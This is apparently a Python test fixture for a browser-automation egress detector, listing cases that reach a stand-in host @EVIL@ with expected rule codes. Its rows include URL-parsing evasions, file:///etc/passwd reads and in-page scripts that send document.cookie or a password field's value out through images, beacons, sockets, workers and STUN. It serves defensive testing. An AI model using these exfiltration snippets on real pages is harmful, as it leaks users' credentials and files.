"""Reaching an origin that the case does not list."""

from attacks.attack import EGRESS, rows_on_page, script_rows

_BY_CALL = rows_on_page(
    ("another origin", "", "AW501", "page.goto('http://@EVIL@/?q=1')"),
    ("another port", "", "AW501", "page.goto('@SHOP@0/')"),
    ("without a scheme", "", "AW501", "page.goto('//@EVIL@/')"),
    ("behind a user name", "", "AW501", "page.goto('@SHOP@' + '@@EVIL@/')"),
    ("with a backslash", "", "AW501", "page.goto('http:\\\\\\\\@EVIL@')"),
    ("with a tab", "", "AW501", "page.goto('ht\\ttp://@EVIL@/')"),
    ("a longer name", "", "AW501", "page.goto('@SHOP@.evil.test/')"),
    ("a name that carries data", "", "AW501", "page.goto('http://secret.leak.example.org/')"),
    ("in a frame", "", "AW501", "page.frames[1].goto('http://@EVIL@/')"),
    ("in a popup", "", "AW501",
     "with page.expect_popup() as i:\n    page.click('text=Open')\n"
     "i.value.goto('http://@EVIL@/')"),
    ("swallowed", "", "AW501",
     "try:\n    page.goto('http://@EVIL@/')\nexcept Exception:\n    pass\n"
     "try:\n    page.goto('http://@EVIL@/')\nexcept:\n    pass\npage.fill('#user', 'after')"),
    ("a file", "AW402", "AW501", "page.goto('file:///etc/passwd')"),
    ("a file in capitals", "AW402", "AW501", "page.goto('FILE:///etc/passwd')"),
    ("a file by a made address", "", "AW501", "page.goto('fi' + 'le:///etc/passwd')"),
    ("a script", "AW402", "AW501", "page.goto('javascript:alert(1)')"),
    ("a script with a tab", "", "AW501", "page.goto('java' + '\\tscript:alert(1)')"),
    ("data", "AW402", "AW501", "page.goto('data:text/html,<img src=http://@EVIL@/>')"),
    ("settings", "AW402", "AW501", "page.goto(url='chrome://settings')"),
    ("a source", "AW402", "AW501", "page.goto('view-source:http://@EVIL@/')"),
    ("a blob", "AW402", "AW501", "page.goto('blob:http://@EVIL@/x')"),
    ("a redirect", "", EGRESS, "page.goto('/hop')"),
    ("a chain of redirects", "", EGRESS, "page.goto('/chain')"),
    ("a redirect in a frame", "", EGRESS, "page.frames[1].goto('/hop')"),
    ("a link", "", EGRESS, "page.click('text=Away')"),
    ("a link to a new window", "", EGRESS,
     "with page.expect_popup() as i:\n    page.click('text=Window')\n"
     "i.value.wait_for_load_state()"),
    ("a form", "", EGRESS, "page.click('text=Post')"),
    ("a download", "", EGRESS, "page.click('text=Fetch file')\npage.wait_for_timeout(100)"),
    ("a picture of the page", "", EGRESS, "page.click('text=Picture')"),
    ("a number as an address", "", "AW501", "page.goto(5)"),
)  # fmt: skip

_WORKER = "URL.createObjectURL(new Blob([`{}`], {{type: 'text/javascript'}}))".format
_BY_SCRIPT = script_rows(
    EGRESS,
    ("fetch", "() => fetch('http://@EVIL@/', {mode: 'no-cors'}).catch(() => 0)"),
    ("fetch past a redirect", "() => fetch('/hop', {mode: 'no-cors'}).catch(() => 0)"),
    ("a request",
     "() => { const x = new XMLHttpRequest(); x.open('GET', 'http://@EVIL@/'); x.send() }"),
    ("a beacon", "() => navigator.sendBeacon('http://@EVIL@/', 'x')"),
    ("a socket", "() => { new WebSocket('ws://@EVIL@/') }"),
    ("events", "() => { new EventSource('http://@EVIL@/') }"),
    ("an image", "() => { new Image().src = 'http://@EVIL@/?' + document.cookie }"),
    ("a worker",
     "() => { new Worker(" + _WORKER("fetch('http://@EVIL@/', {mode: 'no-cors'})") + ") }"),
    ("an import of a worker",
     "() => { new Worker(" + _WORKER("importScripts('http://@EVIL@/')") + ") }"),
    ("a shared worker",
     "() => { new SharedWorker(" + _WORKER("fetch('http://@EVIL@/', {mode: 'no-cors'})") + ") }"),
    ("a module", "() => import('http://@EVIL@/').catch(() => 0)"),
    ("a popup", "() => { window.open('http://@EVIL@/') }"),
    ("a popup past a redirect", "() => { window.open('/hop') }"),
    ("the page's address", "() => { location = 'http://@EVIL@/?q=' + pw.value }"),
    ("a frame",
     "() => { document.body.append(Object.assign(document.createElement('iframe'),"
     " {src: 'http://@EVIL@/'})) }"),
    ("a frame of data",
     "() => { document.body.append(Object.assign(document.createElement('iframe'),"
     " {src: 'data:text/html,<img src=http://@EVIL@/>'})) }"),
    ("a form that is sent",
     "() => { const f = document.createElement('form'); f.action = 'http://@EVIL@/';"
     " f.method = 'post'; document.body.append(f); f.submit() }"),
    ("a style",
     "() => { document.head.insertAdjacentHTML('beforeend',"
     " '<link rel=stylesheet href=http://@EVIL@/>') }"),
    ("a prefetch",
     "() => { document.head.insertAdjacentHTML('beforeend',"
     " '<link rel=prefetch href=http://@EVIL@/>') }"),
    ("a refresh",
     "() => { document.head.insertAdjacentHTML('beforeend',"
     " '<meta http-equiv=refresh content=\"0;url=http://@EVIL@/\">') }"),
    ("a name to look up", "() => fetch('http://secret.leak.example.org/').catch(() => 0)"),
)  # fmt: skip

_QUIET = script_rows(
    "nothing",
    ("a peer",
     "() => new Promise(done => { const p = new RTCPeerConnection({iceServers:"
     " [{urls: 'stun:@EVIL@'}]}); p.createDataChannel('x');"
     " p.onicegatheringstatechange = () => p.iceGatheringState == 'complete' && done();"
     " p.createOffer().then(o => p.setLocalDescription(o)); setTimeout(done, 300) })"),
    ("a service worker",
     "() => navigator.serviceWorker.register('/sw.js').then(() => 0, () => 0)"),
)  # fmt: skip

ATTACKS = [*_BY_CALL, *_BY_SCRIPT, *_QUIET]
